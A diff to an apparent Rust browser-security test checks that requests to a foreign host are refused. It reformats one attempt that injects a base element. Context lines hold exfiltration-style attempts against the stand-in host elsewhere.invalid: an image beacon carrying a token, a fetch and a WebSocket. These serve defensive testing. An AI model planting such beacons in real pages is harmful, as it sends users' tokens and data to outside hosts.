@@ -18,7 +18,10 @@ async fn a_script_from_elsewhere_markup_and_a_foreign_address_are_refused() {
             () => { document.body.append(Object.assign(new Image(), { src: 'https://elsewhere.invalid/?token' })); },
             () => { fetch('https://elsewhere.invalid/').catch(() => undefined); },
             () => { new WebSocket('wss://elsewhere.invalid/'); },
-            () => { document.body.append(Object.assign(document.createElement('base'), { href: 'https://elsewhere.invalid/' })); },
+            () => {
+                const base = Object.assign(document.createElement('base'), { href: 'https://elsewhere.invalid/' });
+                document.body.append(base);
+            },
         ];
         const errors = attempts.filter((attempt) => { try { attempt(); return false; } catch { return true; } }).length;
         setTimeout(() => done([errors, [...refused].sort()]), 500)";
